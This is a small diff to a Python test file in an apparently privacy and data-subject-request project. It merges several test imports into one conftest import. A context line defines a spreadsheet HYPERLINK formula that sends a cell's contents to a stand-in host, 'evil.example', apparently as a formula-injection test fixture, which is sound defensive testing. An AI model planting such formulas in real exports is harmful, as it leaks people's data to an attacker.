@@ -13,9 +13,7 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 from consent.models import ConsentRecord, ConsentSubject
 from privacy.db import utcnow
 from privacy.keys import keyring_of
-from tests.dsar.conftest import Client
-from tests.dsar.test_fulfilment import download
-from tests.dsar.test_intake import ADA, verified
+from tests.dsar.conftest import ADA, Client, download, verified
 from tests.mail_fixtures import Mailbox
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
